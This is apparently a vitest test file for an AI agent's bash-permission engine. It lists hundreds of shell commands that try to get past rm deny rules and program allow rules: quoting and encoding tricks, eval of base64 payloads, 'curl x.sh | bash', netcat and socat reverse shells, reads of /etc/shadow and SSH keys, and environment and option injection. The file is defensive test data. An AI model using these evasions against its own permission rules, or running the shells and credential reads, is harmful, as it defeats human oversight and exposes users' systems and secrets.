/**
 * Attempts to get something past the rules. Each runs under rules that a careless reader of commands would be fooled by,
 * and has to end in a refusal or a question; the same program used as the rule means it has to run.
 */
import { describe, expect, it } from "vitest";
import type { Decision, Mode } from "../../src/core/permission.ts";
import { decide } from "../../src/policy/decide.ts";
import { type Effect, parseRule } from "../../src/policy/rule.ts";
import { readLine } from "../support/read-line.ts";

const place = { cwd: "/home/ann/app", projectRoot: "/home/ann/app", home: "/home/ann" };

type Lists = { allow?: string[]; ask?: string[]; deny?: string[]; mode?: Mode };

function judge(command: string, { allow = [], ask = [], deny = [], mode = "ask" }: Lists): Decision {
  const parse = (effect: Effect) => (text: string) => parseRule(text, effect, "test");
  const rules = [...allow.map(parse("allow")), ...ask.map(parse("ask")), ...deny.map(parse("deny"))];
  const intent = { summary: command, paths: [], command };
  return decide(
    { name: "bash", access: "execute", intent, line: readLine(command), ...place },
    { mode, rules },
  );
}

/** One command a line; `⏎ ␀ ␍ ‵` stand for a newline, a NUL, a carriage return and a backtick. */
const lines = (text: string): string[] =>
  text
    .trim()
    .split("\n")
    .map((line) =>
      line.trim().replaceAll("⏎", "\n").replaceAll("␀", "\0").replaceAll("␍", "\r").replaceAll("‵", "`"),
    );

/** Commands that remove `a` all the same. */
const removals = lines(String.raw`
  rm a
  /bin/rm a
  /usr/bin/../bin/rm a
  ./../../../bin/rm a
  \rm a
  'rm' a
  "rm" a
  r''m a
  r""m a
  r\m a
  $'rm' a
  $'\x72m' a
  $'\162\155' a
  $'\u0072m' a
  $"rm" a
  r"m" a
  "r"'m' a
  rm⏎a
  rm\⏎ a
  r\⏎m a
  RM a
  grm a
  ls;rm a
  ls&&rm a
  ls||rm a
  ls|rm a
  ls|&rm a
  ls&rm a
  ls⏎rm a
  ls # comment⏎rm a
  ls "#" ; rm a
  ls a#b; rm a
  ls "a"#b; rm a
  ls \# ; rm a
  echo 'a'; rm a; echo 'b'
  (rm a)
  ((1)); rm a
  { rm a; }
  ! rm a
  time rm a
  time -p rm a
  time A=1 rm a
  if rm a; then :; fi
  if :; then rm a; fi
  if :; then :; elif rm a; then :; fi
  if :; then :; else rm a; fi
  while rm a; do :; done
  until rm a; do :; done
  for x in a; do rm $x; done
  for ((i=0;i<1;i++)); do rm a; done
  case a in a) rm a;; esac
  case a in (b|a) rm a ;; esac
  select x in a; do rm $x; done
  f() { rm a; }; f
  f() (rm a); f
  function f { rm a; }; f
  ls() { rm a; }; ls
  echo $(rm a)
  echo ‵rm a‵
  echo "$(rm a)"
  echo "‵rm a‵"
  echo "x $(echo "$(rm a)")"
  echo $(echo $(rm a))
  echo $❴x:-$(rm a)}
  echo $❴x:-‵rm a‵}
  echo "$❴x:=$(rm a)}"
  echo $❴x/a/$(rm a)}
  echo $❴a[$(rm a)]}
  echo $((1+$(rm a)))
  echo $[1+$(rm a)]
  cat <(rm a)
  ls > >(rm a)
  ls >$(rm a)
  cat <<< $(rm a)
  cat <<EOF⏎$(rm a)⏎EOF
  cat <<EOF⏎‵rm a‵⏎EOF
  cat <<-EOF⏎	$(rm a)⏎	EOF
  cat <<EOF⏎x⏎EOF⏎rm a
  cat <<'EOF'⏎x⏎EOF⏎rm a
  cat <<EOF | rm a⏎x⏎EOF
  cat <<EOF && rm a⏎x⏎EOF
  cat <<EOF; rm a⏎x⏎EOF
  x=$(rm a)
  x=(a $(rm a))
  x[$(rm a)]=1
  FOO=1 rm a
  FOO=$(rm a) ls
  > x rm a
  >x rm a
  2>&1 rm a
  ls > x; rm a
  ls 2>/dev/null && rm a
  [ -f a ] && rm a
  [[ -f a ]] && rm a
  [[ $(rm a) == b ]]
  [ "$(rm a)" ]
  env rm a
  env -i rm a
  env FOO=1 rm a
  env -u X rm a
  env -S 'rm a'
  env -S "rm a"
  env --split-string='rm a'
  env -iS 'rm a'
  /usr/bin/env rm a
  command rm a
  builtin command rm a
  exec rm a
  exec -a ls rm a
  nohup rm a
  nice rm a
  nice -n 5 rm a
  ionice -c 3 rm a
  timeout 5 rm a
  timeout -k 1 5s rm a
  timeout --signal=KILL 5 rm a
  setsid rm a
  setsid -f rm a
  stdbuf -oL rm a
  sudo rm a
  sudo -u root rm a
  sudo -n -- rm a
  sudo env FOO=1 rm a
  doas rm a
  watch rm a
  watch -n 1 'rm a'
  xargs rm < list
  ls | xargs rm
  ls | xargs -0 -n1 rm
  ls | xargs -I{} rm {}
  ls | xargs -I{} sh -c 'rm {}'
  ls | parallel rm
  parallel 'rm {}' ::: a
  find . -exec rm {} \;
  find . -exec rm {} +
  find . -execdir rm {} \;
  find . -ok rm {} \;
  find src -delete
  find . -name '*' -exec sh -c 'rm "$1"' _ {} \;
  fd x -x rm
  fd x --exec rm
  bash -c 'rm a'
  bash -c "rm a"
  bash -lc 'rm a'
  bash -ec 'rm a'
  bash -o errexit -c 'rm a'
  bash -c 'ls; rm a'
  bash -c "bash -c 'rm a'"
  bash -c $'rm a'
  bash -c r'm a'
  sh -c 'rm a'
  /bin/sh -c 'rm a'
  zsh -c 'rm a'
  dash -c 'rm a'
  busybox rm a
  busybox sh -c 'rm a'
  toybox rm a
  eval rm a
  eval 'rm a'
  eval "rm" "a"
  eval 'eval "rm a"'
  trap 'rm a' EXIT
  trap "rm a" 0
  bash <<EOF⏎rm a⏎EOF
  bash <<'EOF'⏎rm a⏎EOF
  sh <<< 'rm a'
  bash -s <<EOF⏎rm a⏎EOF
  strace -f rm a
  flock /tmp/l rm a
  unshare -r rm a
  chroot / rm a
  ssh localhost rm a
  ssh localhost 'cd x; rm a'
  docker run -v /:/h alpine rm a
  docker exec c rm a
  kubectl exec p -- rm a
  npx rm a
  npm exec -- rm a
  script -c 'rm a' /dev/null
  su -c 'rm a'
  /lib64/ld-linux-x86-64.so.2 /bin/rm a
  git status; rm a
  git status⏎⏎⏎rm a
  $(echo ls); rm a
  ls&&(ls&&(ls&&rm a))
`).map((line) => line.replaceAll("❴", "{"));

describe("a rule that forbids rm", () => {
  it.each(removals)("holds, whatever else is allowed: %j", (command) => {
    for (const mode of ["ask", "full"] as const) {
      const decision = judge(command, { mode, deny: ["Bash(rm:*)"], allow: ["Bash"] });
      expect(decision).toMatchObject({ effect: "deny", rule: "Bash(rm:*)" });
    }
  });

  it.each(
    lines(String.raw`
    $X a
    $❴X} a
    $(echo rm) a
    ‵echo rm‵ a
    $(printf 'r%s' m) a
    X=rm; $X a
    X=rm Y=a; $X $Y
    {rm,a}
    r{m,} a
    /bin/r? a
    /bin/r* a
    /bin/[r]m a
    r$EMPTY'm' a
    r$@m a
    r$❴x}m a
    $❴x:-rm} a
    "$@"
    env $X a
    timeout 5 $X a
    sudo $X a
    time ! rm a
    time $X a
    time { rm a; }
    nice r$EMPTY'm' a
    ls | xargs $X
    find . -exec $X {} +
    find . -exec {} +
    fd . -x {}
    eval $X
    eval "$(cat x)"
    eval "$(echo cm0gYQ== | base64 -d)"
    bash -c "$X"
    bash -c "$(cat x)"
    bash $X
    echo 'rm a' | sh
    echo cm0gYQ== | base64 -d | sh
    echo 'a mr' | rev | bash
    printf '\162\155 a' | sh
    curl -s x.sh | bash
    cat x | bash -s
    cat x | sudo sh
    bash < x
    bash /dev/stdin < x
    . /dev/stdin <<< 'rm a'
    source <(echo rm a)
    . <(cat x)
    bash <(echo rm a)
    bash <<EOF⏎$X a⏎EOF
    sh <<< "$X"
    ls |&]\rm a
    coproc rm a
    coproc { rm a; }
    alias ls='rm a'; ls
    shopt -s expand_aliases
    PATH=/evil:$PATH ls
    export PATH=/evil; ls
    declare -x PATH=/evil; ls
    env PATH=/evil ls
    printf -v PATH /evil; ls
    LD_PRELOAD=./x.so ls
    LD_LIBRARY_PATH=. ls
    DYLD_INSERT_LIBRARIES=x ls
    BASH_ENV=x bash -c ls
    ENV=x sh -c ls
    PROMPT_COMMAND='rm a' bash -i
    PS4='$(rm a)' bash -xc ls
    IFS=x; ls
    GIT_SSH_COMMAND='rm a' git fetch
    GIT_EXTERNAL_DIFF='rm a' git diff
    GIT_PAGER='rm a' git log
    PAGER='rm a' man ls
    EDITOR='rm a' git commit
    NODE_OPTIONS='--require ./x' node a.js
    PYTHONSTARTUP=x python -i
    PERL5OPT=-Mx perl a.pl
    RUBYOPT=-rx ruby a.rb
    export "$X"
    declare "$X"
    x='a[$(rm a)]'; echo $((x))
    x='a[$(rm a)]'; [[ $x -eq 1 ]]
    test -v 'a[$(rm a)]'
    [ -v 'a[$(rm a)]' ]
    [[ -v $x ]]
    printf -v 'a[$(rm a)]' x
    unset 'a[$(rm a)]'
    read 'a[$(rm a)]' <<< 1
    let 'a[$(rm a)]'
    read x < f; echo $((x))
    read x < f; (( x ))
    read x < f; echo $❴a[x]}
    x=$(cat f); echo $((x+1))
    echo $❴x@P}
    echo "$❴x@P}"
    rm␀ a; ls
    ls␍rm a
    ls;␍rm a
    ls ␍⏎rm
    ls $'\0'; r$'\x00'm a
    rm\ a
    $'a\\' ; rm a; echo 'b'
    'unclosed rm a
    "unclosed rm a
    echo $(rm a
    echo ‵rm a
    cat <<EOF⏎rm a
    cat <<"A B"⏎x⏎A B⏎rm a
    cat <<$X⏎x⏎$X⏎rm a
    ‵echo \‵rm a\‵‵
    python -c 'import os; os.remove("a")'
    python3 -c 'import os; os.system("rm a")'
    python3.12 -Bc 'x'
    python3 - <<EOF⏎x⏎EOF
    echo 'x' | python3
    python3 <<< x
    node -e 'x'
    node --eval=x
    node -p 'x'
    node --require ./x a.js
    deno eval 'x'
    bun -e x
    perl -e 'unlink "a"'
    perl -pi -e 's/a/b/' x
    perl -lane 'x' f
    ruby -e 'x'
    php -r 'x'
    lua -e 'x'
    osascript -e 'x'
    awk 'BEGIN{system("rm a")}'
    awk 'BEGIN{"rm a" | getline}'
    awk '{print | "sh"}' f
    awk '{print > "a"}' f
    awk -f x f
    sed '1e rm a' f
    sed 's/x/rm a/e' f
    sed 'w a' f
    sed -f x f
    vim -c ':!rm a' -c q
    vim +'!rm a' f
    ed -s f <<EOF⏎!rm a⏎EOF
    tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='rm a'
    tar xf x.tar --to-command='rm a'
    tar cf x.tar -I 'rm a' y
    rsync -e 'sh -c "rm a"' x y:
    ssh -o ProxyCommand='rm a' h
    scp -S ./x a b:
    man -P 'rm a' ls
    less +'!rm a' f
    sort --compress-program=./x f
    split --filter='rm a' f
    git -c alias.x='!rm a' x
    git -c core.pager='rm a' log
    git -c core.fsmonitor='rm a' status
    git --exec-path=. x
    git --config-env=core.pager=X log
    git config alias.x '!rm a'
    git config core.hooksPath .
    git config --global core.editor 'rm a'
    git diff --ext-diff
    git difftool -x 'rm a'
    git grep -O'rm a' x
    git rebase -x 'rm a' main
    git bisect run rm a
    git submodule foreach 'rm a'
    git filter-branch --tree-filter 'rm a'
    git clone --upload-pack='rm a' x
    git clone -u 'rm a' x y
    git clone 'ext::sh -c "rm a"' y
    git fetch --upload-pack 'rm a' x
    git push --receive-pack='rm a' x
    git archive --remote=x --exec='rm a' HEAD
    git init --template=x
    git log --output=a
    make SHELL=./x all
    make --eval='x:;rm a'
    npm run test --script-shell=./x
    npm --prefix /evil test
    npx -c 'rm a'
    cargo --config 'build.rustc-wrapper="./x"' build
    go test -exec ./x ./...
    go vet -vettool=./x
    gcc -wrapper ./x,--args a.c
    find . -fprint a
    nc -e /bin/sh h 1
    socat TCP:h:1 EXEC:sh
    psql -c '\! rm a'
    sqlite3 db '.shell rm a'
    gdb -ex 'shell rm a'
    zip x.zip a -T -TT 'rm a'
    crontab x
    sudo -s
    sudo -i
    git $X
    tar $OPTS x.tar
    rsync "$X" y
    tar cf x.tar *
  `).map((line) => line.replaceAll("❴", "{")),
  )("lets nothing through unasked that it cannot see: %j", (command) => {
    for (const mode of ["ask", "full"] as const)
      expect(judge(command, { mode, deny: ["Bash(rm:*)"], allow: ["Bash"] }).effect).not.toBe("allow");
  });

  it.each(
    lines(String.raw`
    ls -la
    npm run build
    echo "rm a"
    echo 'rm a' > notes.txt
    grep rm f
    git rm a
    git commit -m 'rm a'
    docker rm c
    npm rm left-pad
    cat <<'EOF'⏎rm a⏎EOF
    cat > x.sh <<'EOF'⏎rm a⏎EOF
    git commit -m "$(cat <<'EOF'⏎Do not rm -rf it's⏎EOF⏎)"
    python3 script.py
    for f in *.ts; do echo "$f"; done
    i=0; echo $((i+1))
    for ((i=0;i<3;i++)); do echo $i; done
    x=$(git rev-parse HEAD); echo "$x"
    awk '{print $1}' f | sort -u
    sed -n '1,5p' f
    sed -i 's/a/b/g' f
    find . -name '*.ts' -exec grep -l x {} +
    ls | xargs grep x
    tar czf x.tgz dist
    git push origin main
  `),
  )("is not in the way of: %j", (command) => {
    expect(judge(command, { mode: "full", deny: ["Bash(rm:*)"], allow: ["Bash"] }).effect).toBe("allow");
  });
});

/** A rule as people write it, what it means, and what it does not. */
const fooled: { allow: string[]; runs: string[]; asks: string[] }[] = [
  {
    allow: ["Bash(git:*)"],
    runs: [
      "git push",
      "git commit -m 'a; rm b'",
      "git log --oneline",
      "git checkout -b x",
      "git config user.name x",
    ],
    asks: lines(String.raw`
      git -c alias.x=!touch x
      git -c core.pager=touch log
      git config alias.x !touch
      git config --add core.hooksPath .
      git push; touch a
      git log > a
      git log | tee a
      git log $(touch a)
      gitx
      git difftool
      git rebase --exec touch main
      git submodule foreach touch a
      git clone ext::touch x
      git grep --open-files-in-pager=touch x
      git diff --ext-diff
      git bisect run touch a
      GIT_SSH_COMMAND=touch git fetch
      git --git-dir=/x log
      ./git push
      /tmp/git push
      git "$X"
    `),
  },
  {
    allow: ["Bash(npm run test:*)", "Bash(npm test:*)"],
    runs: ["npm run test", "npm run test -- --watch=false", "npm test"],
    asks: lines(String.raw`
      npm run test-evil
      npm run test:evil
      npm run testevil
      npm run test && npm publish
      npm run test --script-shell=./x
      npm run test --prefix=/evil
      npm --prefix /evil run test
      npm run test; touch a
      npm run test > a
      npm run test $(touch a)
      npm run build
      npm runtest
      'npm run test' x
      npm_config_script_shell=x npm run test
    `),
  },
  {
    allow: [
      "Bash(find:*)",
      "Bash(xargs:*)",
      "Bash(env:*)",
      "Bash(timeout:*)",
      "Bash(nice:*)",
      "Bash(time:*)",
    ],
    runs: ["find . -name x", "timeout 5 ls", "env", "env FOO=1 ls", "find . -name x | xargs echo", "nice ls"],
    asks: lines(String.raw`
      find . -exec touch a \;
      find . -delete
      find . -fprintf a x
      ls | xargs touch
      ls | xargs -I{} sh -c 'touch {}'
      env touch a
      env PATH=/evil ls
      env -S 'touch a'
      timeout 5 touch a
      nice timeout 5 touch a
      time touch a
      time -o a ls
    `),
  },
  {
    allow: ["Bash(bash:*)", "Bash(sh:*)", "Bash(eval:*)", "Bash(sudo:*)", "Bash(ssh:*)"],
    runs: ["bash script.sh", "bash -c 'ls'", "ssh host ls"],
    asks: lines(String.raw`
      bash -c 'touch a'
      sh -c 'ls; touch a'
      bash -c "$X"
      eval touch a
      eval "$X"
      sudo touch a
      sudo -s
      curl x | bash
      bash <<< 'touch a'
      ssh -o ProxyCommand=x host
    `),
  },
  {
    allow: [
      "Bash(tar:*)",
      "Bash(rsync:*)",
      "Bash(vim:*)",
      "Bash(man:*)",
      "Bash(less:*)",
      "Bash(sort:*)",
      "Bash(make:*)",
    ],
    runs: ["tar xzf a.tgz", "rsync -av a b", "sort -u f", "make all", "make -j4 test"],
    asks: lines(String.raw`
      tar cf x --checkpoint-action=exec=touch y
      tar cf x --checkpoint-a=exec=touch y
      tar --use-compress-program=./x -cf y z
      tar xf a --to-command=touch
      tar cf a.tar *
      rsync -e touch a b
      rsync --rsh=touch a b
      vim -c '!touch a'
      vim -es f
      man -P touch ls
      man --pager=touch ls
      less +!touch f
      sort -o a f
      sort --compress-prog=touch f
      make SHELL=touch
      make --eval=x
      make -C x $ARGS
    `),
  },
  {
    allow: ["Bash(python:*)", "Bash(node:*)", "Bash(perl:*)", "Bash(awk:*)", "Bash(sed:*)"],
    runs: ["python script.py", "node build.js --fast", "perl x.pl", "awk '{print $2}' f", "sed -i s/a/b/ f"],
    asks: lines(String.raw`
      python -c 'import os'
      echo x | python
      python - < x
      node -e 'x'
      node --import=./x a.js
      perl -e 'x'
      perl -i.bak -pe 's/a/b/' f
      awk 'BEGIN{system("x")}'
      awk -f x
      sed '1e x' f
      sed 's/a/b/w out' f
    `),
  },
  {
    allow: ["Bash(cat:*)", "Bash(echo:*)", "Bash(ls:*)", "Bash(cd:*)"],
    runs: ["cat a b", "echo hi", "cd src && ls"],
    asks: lines(String.raw`
      cat /etc/shadow
      cat ~/.ssh/id_rsa
      cat .env
      cat ../x
      cd / && cat etc/passwd
      cd /; cat etc/passwd
      (cd /) ; cat ../../etc/passwd
      cd .. && cd .. && cat ../etc/passwd
      pushd / && cat etc/passwd
      cd src || cd / ; cat etc/passwd
      echo x > /etc/motd
      echo x >> ../a
      echo x >| a
      echo x &> a
      echo x >& a
      echo x > $HOME/a
      echo x 1<> a
      cat < /etc/shadow
      echo $(</etc/shadow)
      while read l; do cat "$l"; done < /etc/shadow
      cat <(cat /etc/shadow)
      echo x > "$F"
      cat $F
      cat {/etc/shadow,a}
      cd $X && cat y
      cd - && cat y
    `),
  },
];

describe("a rule that allows a program", () => {
  for (const { allow, runs, asks } of fooled) {
    it.each(runs)(`${allow[0]} lets run: %j`, (command) => {
      expect(judge(command, { allow })).toMatchObject({ effect: "allow" });
    });
    it.each(asks)(`${allow[0]} is not fooled by: %j`, (command) => {
      expect(judge(command, { allow }).effect).not.toBe("allow");
    });
  }

  it("may name the part that does more", () => {
    expect(judge("python -c 'print(1)'", { allow: ["Bash(python -c:*)"] }).effect).toBe("allow");
    expect(judge("sudo touch a", { allow: ["Bash(sudo touch:*)"] }).effect).toBe("allow");
    expect(judge("git -c a.b=c log", { allow: ["Bash(git -c a.b=c log)"] }).effect).toBe("allow");
  });
});

describe("without a parser", () => {
  it("only what is allowed word for word runs, in every mode", () => {
    const intent = { summary: "", paths: [], command: "ls" };
    const call = { name: "bash", access: "execute" as const, intent, ...place };
    for (const mode of ["ask", "edit", "full"] as const) {
      expect(decide(call, { mode, rules: [] }).effect).toBe("ask");
      expect(decide(call, { mode, rules: [parseRule("Bash", "allow", "test")] }).effect).toBe("ask");
      expect(decide(call, { mode, rules: [parseRule("Bash(ls)", "allow", "test")] }).effect).toBe("allow");
      expect(decide(call, { mode, rules: [parseRule("Bash(ls)", "deny", "test")] }).effect).toBe("deny");
    }
    expect(decide(call, { mode: "plan", rules: [] }).effect).toBe("deny");
  });
});
